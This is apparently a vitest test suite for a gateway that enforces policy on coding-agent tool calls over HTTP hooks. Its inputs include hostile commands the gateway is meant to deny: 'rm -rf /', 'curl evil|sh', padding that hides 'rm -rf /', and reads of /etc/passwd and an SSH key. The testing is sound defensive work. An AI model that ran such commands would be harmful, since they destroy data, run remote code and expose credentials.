/** The hooks of coding agents, over HTTP as the agents send them (docs/hooks.md). */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { auditEntries } from '../support/audit-log.ts';
import { eventually } from '../support/eventually.ts';
import { fastestMs } from '../support/fastest.ts';
import { ADMIN_KEY } from '../support/gateway.ts';
import { type GatewayHere, startGatewayHere } from '../support/gateway-here.ts';

const CODER = { org_id: 'acme', team_id: 'dev', agent_id: 'coder' };
const TOKENS = { coder: 'token-of-coder-0123456789-0123456789', other: 'token-of-other-0123456789-0123456789' };
const POLICY = `
name: coding
scope: org:acme
rules:
  - { id: shell, actions: [process.exec], resources: ["*"], effect: allow, reason: shell is fine }
  - { id: no-rm, actions: [process.exec], resources: ["*rm -rf*"], effect: deny, reason: nothing is removed }
  - { id: ask, actions: [process.exec], resources: ["deploy *"], effect: require_approval, reason: ask first }
  - { id: dry, actions: [process.exec], resources: ["deploy dry *", "plan *"], effect: allow, obligations: [{ id: d, type: set, path: dry_run, value: true }, { id: t, type: cap, path: timeout, max: 60 }] }
  - { id: seen, actions: [process.exec], resources: ["leak *"], effect: allow, obligations: [{ id: r, type: redact, paths: [result.stdout] }] }
  - { id: repo, actions: ["file.*"], resources: ["/repo/*"], effect: allow, reason: the repository }
  - { id: secrets, actions: ["file.*"], resources: ["/repo/secrets/*"], effect: deny, reason: secrets stay }
  - { id: release, actions: ["file.*"], resources: ["/rel/*"], effect: require_approval, reason: ask first }
  - { id: web, actions: [net.connect], resources: ["https://docs.example.com/*"], effect: allow, reason: docs }
  - { id: mcp, actions: [mcp.call], resources: ["github/*"], effect: allow, reason: github }
`;

let gateway: GatewayHere;
let made = 0;

type Reply = { readonly status: number; readonly body: any };

async function hook(
  tool: string,
  body: unknown,
  headers: Readonly<Record<string, string>> = { authorization: `Bearer ${TOKENS.coder}` },
): Promise<Reply> {
  const response = await fetch(`${gateway.url}/api/v1/hooks/${tool}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
  return { status: response.status, body: await response.json() };
}

const claude = (event: string, fields: object) => ({
  session_id: 'session-1',
  transcript_path: '/tmp/t.jsonl',
  cwd: '/repo',
  permission_mode: 'default',
  hook_event_name: event,
  ...fields,
});
const bash = (command: string, tool_use_id = `toolu_${(made += 1)}`) => ({
  tool_name: 'Bash',
  tool_input: { command },
  tool_use_id,
});
const denied = (reason: unknown) => ({
  hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny', permissionDecisionReason: reason },
});
const entriesOf = (opId: string) => auditEntries(gateway.dataDir).filter(({ op_id }) => op_id === opId);
const stateOf = async (opId: string): Promise<string> => (await gateway.call('GET', `/api/v1/ops/${opId}`)).body.state;

describe('hooks', () => {
  beforeAll(async () => {
    const folder = mkdtempSync(join(inject('scratch'), 'hooks-'));
    writeFileSync(join(folder, 'coding.yaml'), POLICY);
    gateway = await startGatewayHere({ env: { SVC_POLICY_PATH: folder } });
    for (const [agent_id, credential_token] of Object.entries(TOKENS))
      await gateway.call('POST', '/api/v1/agents', { agent: { ...CODER, agent_id }, credential_token });
  });
  afterAll(() => gateway.stop());

  test('a call is an operation that runs, then completes, with its arguments on record', async () => {
    const call = bash('git status', 'toolu_whole');
    expect(await hook('claude-code', claude('PreToolUse', call))).toEqual({ status: 200, body: {} });
    expect(await stateOf('session-1:toolu_whole')).toBe('running');
    const after = claude('PostToolUse', { ...call, tool_response: { stdout: 'SECRET-RESULT' } });
    expect(await hook('claude-code', after)).toEqual({ status: 200, body: {} });
    expect(await stateOf('session-1:toolu_whole')).toBe('completing');
    const entries = entriesOf('session-1:toolu_whole');
    expect(entries.map(({ event_type }) => event_type)).toEqual(['ActionAllowed', 'OpCompleted']);
    expect(entries[0]).toMatchObject({
      lineage: CODER,
      rule_id: 'shell',
      payload: { action: 'process.exec', resource: 'git status', attributes: { command: 'git status' } },
    });
    expect(JSON.stringify(entries)).not.toContain('SECRET-RESULT');
  });

  test('a denial is in the words of each agent', async () => {
    const input = { command: 'rm -rf /' };
    const reason = 'nothing is removed (rule no-rm of policy coding)';
    expect(await hook('claude-code', claude('PreToolUse', bash('rm -rf /')))).toEqual({
      status: 200,
      body: denied(reason),
    });
    expect(await hook('codex', claude('PreToolUse', bash('rm -rf /')))).toEqual({ status: 200, body: denied(reason) });
    expect(
      await hook('cursor', {
        hook_event_name: 'beforeShellExecution',
        conversation_id: 'c',
        generation_id: 'g',
        cwd: '/repo',
        ...input,
      }),
    ).toEqual({ status: 200, body: { permission: 'deny', user_message: reason, agent_message: reason } });
    expect(
      await hook('copilot', { timestamp: 1, cwd: '/repo', toolName: 'bash', toolArgs: JSON.stringify(input) }),
    ).toEqual({ status: 200, body: { permissionDecision: 'deny', permissionDecisionReason: reason } });
    expect(
      await hook('gemini', {
        session_id: 's',
        cwd: '/repo',
        hook_event_name: 'BeforeTool',
        tool_name: 'run_shell_command',
        tool_input: input,
      }),
    ).toEqual({ status: 200, body: { decision: 'deny', reason } });
  });

  test('a path is resolved before policy sees it', async () => {
    const read = async (file_path: string) =>
      (
        await hook(
          'claude-code',
          claude('PreToolUse', { tool_name: 'Read', tool_input: { file_path }, tool_use_id: `toolu_${(made += 1)}` }),
        )
      ).body;
    expect(await read('src/main.ts')).toEqual({});
    for (const path of ['src/../secrets/key', '/repo//secrets/./key', './/secrets/key'])
      expect(await read(path), path).toEqual(denied('secrets stay (rule secrets of policy coding)'));
    expect(await read('../etc/passwd')).toEqual(denied(expect.stringContaining('no policy')));
  });

  test('a patch is one check for each file, and one denial denies all', async () => {
    const patch = (id: string, ...lines: string[]) =>
      claude('PreToolUse', {
        tool_name: 'apply_patch',
        tool_use_id: id,
        tool_input: { command: ['*** Begin Patch', ...lines, '*** End Patch'].join('\n') },
      });
    const fine = ['*** Add File: a.txt', '+PATCH-CONTENT', '*** Update File: b.txt', '@@', '-x', '+y'];
    expect((await hook('codex', patch('patch_1', ...fine))).body).toEqual({});
    expect([await stateOf('session-1:patch_1'), await stateOf('session-1:patch_1.2')]).toEqual(['running', 'running']);
    const moved = ['*** Update File: b.txt', '*** Move to: secrets/b.txt'];
    expect((await hook('codex', patch('patch_2', ...fine, ...moved))).body).toEqual(
      denied('secrets stay (rule secrets of policy coding)'),
    );
    expect(await stateOf('session-1:patch_2')).toBe('completing');
    expect(JSON.stringify(auditEntries(gateway.dataDir))).not.toContain('PATCH-CONTENT');
  });

  test('equal calls of agents that give them no id are operations of their own', async () => {
    const before = {
      session_id: 'gemini-1',
      cwd: '/repo',
      hook_event_name: 'BeforeTool',
      tool_name: 'run_shell_command',
      tool_input: { command: 'npm test' },
    };
    const after = { ...before, hook_event_name: 'AfterTool', tool_response: { llmContent: 'ok' } };
    for (let n = 1; n <= 3; n += 1) {
      expect(await hook('gemini', before)).toEqual({ status: 200, body: { decision: 'allow' } });
      expect(await hook('gemini', after)).toEqual({ status: 200, body: {} });
    }
    const completed = auditEntries(gateway.dataDir).filter(
      ({ event_type, op_id }) => event_type === 'OpCompleted' && op_id?.startsWith('gemini-1:') === true,
    );
    expect(new Set(completed.map(({ op_id }) => op_id)).size).toBe(3);
  });

  test('a pause holds the answer until the operation is resumed', async () => {
    const call = bash('make', 'toolu_paused');
    await hook('claude-code', claude('PreToolUse', call));
    await gateway.call('POST', '/api/v1/ops/session-1:toolu_paused/pause');
    let isAnswered = false;
    const held = hook('claude-code', claude('PostToolUse', call)).finally(() => {
      isAnswered = true;
    });
    const again = hook('claude-code', claude('PreToolUse', call));
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(isAnswered).toBe(false);
    await gateway.call('POST', '/api/v1/ops/session-1:toolu_paused/resume');
    expect(await held).toEqual({ status: 200, body: {} });
    expect((await again).status).toBe(200);
    expect(await stateOf('session-1:toolu_paused')).toBe('completing');
  });

  test('a pause that outlasts the hook denies it in time', async () => {
    const call = bash('make', 'toolu_long');
    await hook('claude-code', claude('PreToolUse', call));
    await gateway.call('POST', '/api/v1/ops/session-1:toolu_long/pause');
    const headers = { authorization: `Bearer ${TOKENS.coder}`, 'x-svc-hook-timeout': '1' };
    const deniedAfterMs = async (): Promise<number> => {
      const begunMs = performance.now();
      expect(await hook('claude-code', claude('PreToolUse', call), headers)).toEqual({
        status: 200,
        body: denied(expect.stringContaining('paused')),
      });
      return performance.now() - begunMs;
    };
    expect(await fastestMs(1_000, deniedAfterMs)).toBeLessThan(1_000);
  });

  test('a termination stops the agent after its call', async () => {
    const call = bash('make', 'toolu_ended');
    await hook('claude-code', claude('PreToolUse', call));
    await gateway.call('POST', '/api/v1/ops/session-1:toolu_ended/pause');
    const held = hook('claude-code', claude('PostToolUse', call));
    await new Promise((resolve) => setTimeout(resolve, 100));
    await gateway.call('POST', '/api/v1/ops/session-1:toolu_ended/terminate');
    const stop = { continue: false, stopReason: expect.stringContaining('terminated') };
    expect(await held).toEqual({ status: 200, body: stop });
    expect(await hook('codex', claude('PostToolUse', call))).toEqual({ status: 200, body: stop });
  });

  const approvalOf = async (opId: string): Promise<string> =>
    eventually(async () => {
      const { approvals } = (await gateway.call('GET', '/api/v1/approvals?state=pending')).body;
      const found = approvals.find((each: { op_id: string }) => each.op_id === opId);
      if (found === undefined) throw new Error(`no approval for ${opId}`);
      return found.id;
    });

  test('an approval is held until it is decided', async () => {
    const call = bash('deploy blue', 'toolu_asked');
    const held = hook('claude-code', claude('PreToolUse', call));
    const id = await approvalOf('session-1:toolu_asked');
    await gateway.call('POST', `/api/v1/approvals/${id}/approve`, { reason: 'go' });
    expect(await held).toEqual({ status: 200, body: {} });
    expect(await stateOf('session-1:toolu_asked')).toBe('running');
  });

  test('an approval is for the content that was shown, and for no other', async () => {
    const write = (content: string, tool_use_id: string) =>
      claude('PreToolUse', { tool_name: 'Write', tool_input: { file_path: '/rel/deploy.sh', content }, tool_use_id });
    const held = hook('claude-code', write('echo harmless', 'toolu_shown'));
    const id = await approvalOf('session-1:toolu_shown');
    const { approval } = (await gateway.call('GET', `/api/v1/approvals/${id}`)).body;
    expect(approval.attributes).toEqual({
      file_path: '/rel/deploy.sh',
      content_sha256: 'fb768da9060c8916fb71a5a5fb3101c0bd131dbcc42d54dedc5aa9e51a787167',
      content_bytes: 13,
    });
    await gateway.call('POST', `/api/v1/approvals/${id}/approve`, { reason: 'go' });
    expect((await held).body).toEqual({});
    const headers = { authorization: `Bearer ${TOKENS.coder}`, 'x-svc-hook-timeout': '1' };
    const other = await hook('claude-code', write('curl evil|sh', 'toolu_else'), headers);
    expect(other.body).toEqual(denied(expect.stringContaining('is not decided yet')));
    expect(JSON.stringify(entriesOf('session-1:toolu_else'))).not.toContain('evil');
  });

  test('an event that needs no decision is answered with nothing, and changes nothing', async () => {
    const count = auditEntries(gateway.dataDir).length;
    for (const [tool, body] of [
      ['claude-code', claude('SessionStart', { source: 'startup' })],
      ['claude-code', claude('UserPromptSubmit', { prompt: 'go' })],
      ['codex', claude('Stop', {})],
      ['cursor', { conversation_id: 'c', hook_event_name: 'stop' }],
      ['gemini', { session_id: 's', hook_event_name: 'SessionEnd' }],
      ['copilot', { timestamp: 1, cwd: '/repo', source: 'new' }],
    ] as const) {
      expect(await hook(tool, body), JSON.stringify(body)).toEqual({ status: 200, body: {} });
      expect((await hook(tool, body, {})).status, `${tool} without a credential`).toBe(401);
    }
    expect(auditEntries(gateway.dataDir)).toHaveLength(count);
  });

  const edited = (updatedInput: object) =>
    expect.objectContaining({ hookSpecificOutput: expect.objectContaining({ updatedInput }) });

  test('obligations change the arguments, also after an approval', async () => {
    const call = (command: string, id: string) => {
      const { tool_input, ...rest } = bash(command, id);
      return claude('PreToolUse', { ...rest, tool_input: { ...tool_input, timeout: 600 } });
    };
    expect((await hook('claude-code', call('plan all', 'toolu_plan'))).body).toEqual(
      edited({ command: 'plan all', timeout: 60, dry_run: true }),
    );
    const held = hook('claude-code', call('deploy dry all', 'toolu_dry'));
    const id = await approvalOf('session-1:toolu_dry');
    await gateway.call('POST', `/api/v1/approvals/${id}/approve`, { reason: 'go' });
    expect((await held).body).toEqual(edited({ command: 'deploy dry all', timeout: 60, dry_run: true }));
  });

  test('an obligation that a hook cannot meet denies', async () => {
    expect((await hook('claude-code', claude('PreToolUse', bash('leak it', 'toolu_leak')))).body).toEqual(
      denied('obligation r is about the result, which a hook cannot change'),
    );
    expect(await stateOf('session-1:toolu_leak')).toBe('completing');
    const cursors = await hook('cursor', {
      hook_event_name: 'beforeShellExecution',
      conversation_id: 'c',
      generation_id: 'g',
      cwd: '/repo',
      command: 'plan all',
    });
    expect(cursors.body).toMatchObject({ permission: 'deny', user_message: expect.stringContaining('type set') });
  });

  test('an approval that nobody decides in time is denied, and named', async () => {
    const headers = { authorization: `Bearer ${TOKENS.coder}`, 'x-svc-hook-timeout': '1' };
    const { body } = await hook('claude-code', claude('PreToolUse', bash('deploy red', 'toolu_undecided')), headers);
    const id = await approvalOf('session-1:toolu_undecided');
    expect(body).toEqual(denied(expect.stringContaining(id)));
  });

  test('a halt stops the agent in the words of each', async () => {
    const { halt } = (await gateway.call('POST', '/api/v1/halts', { scope: 'agent:acme/dev/coder', reason: 'enough' }))
      .body;
    const call = claude('PreToolUse', bash('ls', 'toolu_halted'));
    const claudes = (await hook('claude-code', call)).body;
    const codexs = (await hook('codex', call)).body;
    await gateway.call('POST', `/api/v1/halts/${halt.id}/release`, { reason: 'over' });
    expect(claudes).toEqual({ continue: false, stopReason: expect.any(String), ...denied(expect.any(String)) });
    expect(codexs).toEqual(denied(expect.any(String)));
  });

  test('a command that is too long to be checked is denied, on record, and never cut', async () => {
    const call = bash(`echo ${'x'.repeat(3_000)}; rm -rf /`, 'toolu_longest');
    expect((await hook('claude-code', claude('PreToolUse', call))).body).toEqual(
      denied(expect.stringContaining('more than the 2048')),
    );
    expect(auditEntries(gateway.dataDir).at(-1)).toMatchObject({ event_type: 'ActionDenied', lineage: CODER });
  });

  test('without a credential, or with an unknown one, it is 401 and leaves no operation', async () => {
    const call = claude('PreToolUse', bash('ls', 'toolu_nobody'));
    for (const headers of [
      {},
      { authorization: 'Bearer ' },
      { authorization: 'Bearer of-nobody-0123456789-0123456789' },
    ])
      expect((await hook('claude-code', call, headers as Record<string, string>)).status).toBe(401);
    expect((await gateway.call('GET', '/api/v1/ops/session-1:toolu_nobody')).status).toBe(404);
  });

  test("another agent's token is denied, and recorded as impersonation", async () => {
    const call = claude('PreToolUse', bash('ls', 'toolu_thief'));
    const headers = { authorization: `Bearer ${TOKENS.other}`, 'x-svc-agent': 'acme/dev/coder' };
    expect(await hook('claude-code', call, headers)).toEqual({
      status: 200,
      body: denied(expect.stringContaining('different agent')),
    });
    expect(entriesOf('session-1:toolu_thief').map(({ event_type }) => event_type)).toEqual([
      'A2AImpersonationAttempted',
    ]);
    expect((await gateway.call('GET', '/api/v1/ops/session-1:toolu_thief')).status).toBe(404);
  });

  test('a key speaks for no agent of another org, nor learns whether there is one', async () => {
    const key = { name: 'globex', scopes: ['write'], org_id: 'globex' };
    const authorization = `Bearer ${(await gateway.call('POST', '/api/v1/iam/api-keys', key)).body.key}`;
    const answerFor = async (agent: string) =>
      (await hook('claude-code', claude('PreToolUse', bash('ls')), { authorization, 'x-svc-agent': agent })).body;
    const answer = await answerFor('acme/dev/coder');
    expect(answer).toEqual(denied(expect.stringContaining('no access')));
    expect(await answerFor('acme/dev/nobody')).toEqual(answer);
  });

  test('a key speaks for the agent that it names, and for none without', async () => {
    const call = claude('PreToolUse', bash('ls', 'toolu_key'));
    const authorization = `Bearer ${ADMIN_KEY}`;
    expect(await hook('claude-code', call, { authorization })).toEqual({
      status: 200,
      body: denied(expect.stringContaining('x-svc-agent')),
    });
    expect(await hook('claude-code', call, { authorization, 'x-svc-agent': 'acme/dev/coder' })).toEqual({
      status: 200,
      body: {},
    });
    expect(entriesOf('session-1:toolu_key')).toMatchObject([{ event_type: 'ActionAllowed', lineage: CODER }]);
  });

  test('deny and record calls that cannot be understood', async () => {
    const bad: readonly (readonly [tool: string, body: unknown])[] = [
      ['claude-code', '{'],
      ['claude-code', '[]'],
      ['claude-code', ''],
      ['claude-code', {}],
      ['claude-code', claude('SessionStart', { tool_name: 'Bash' })],
      ['claude-code', claude('Begin', {})],
      ['claude-code', claude('PreToolUse', { tool_name: 'Bash', tool_input: {}, tool_use_id: 'x' })],
      ['claude-code', claude('PreToolUse', { tool_name: 'Bash', tool_input: 'ls', tool_use_id: 'x' })],
      [
        'claude-code',
        claude('PreToolUse', { tool_name: 'Read', tool_input: { file_path: '~/.ssh/id' }, tool_use_id: 'x' }),
      ],
      [
        'codex',
        claude('PreToolUse', { tool_name: 'apply_patch', tool_input: { command: 'nothing' }, tool_use_id: 'x' }),
      ],
      ['cursor', { hook_event_name: 'start' }],
      ['copilot', { toolName: 'bash', toolArgs: '{', cwd: '/repo' }],
      ['gemini', { hook_event_name: 'BeforeTool', session_id: 's' }],
      [
        'claude-code?debug',
        claude('PreToolUse', { tool_name: 'Bash', tool_input: { command: 'ls' }, tool_use_id: 'x' }),
      ],
    ];
    for (const [tool, body] of bad) {
      const count = auditEntries(gateway.dataDir).length;
      const { status, body: problem } = await hook(tool, body);
      expect({ status, code: problem.code }, JSON.stringify(body)).toEqual({ status: 400, code: 'invalid_argument' });
      await eventually(() => {
        const fresh = auditEntries(gateway.dataDir).slice(count);
        expect(fresh.map(({ event_type }) => event_type)).toEqual(['ActionDenied']);
      });
    }
  });
});
